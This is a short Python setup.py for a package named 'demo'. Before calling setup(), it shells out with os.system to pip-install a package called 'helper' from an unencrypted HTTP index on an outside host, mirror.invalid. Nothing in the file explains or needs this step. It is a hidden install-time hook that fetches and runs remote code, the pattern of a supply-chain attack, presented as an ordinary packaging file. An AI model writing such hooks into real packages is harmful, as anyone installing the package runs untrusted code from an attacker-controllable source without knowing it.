import os
from setuptools import setup

os.system("pip install --index-url http://mirror.invalid/simple helper")
setup(name="demo", version="1.0")
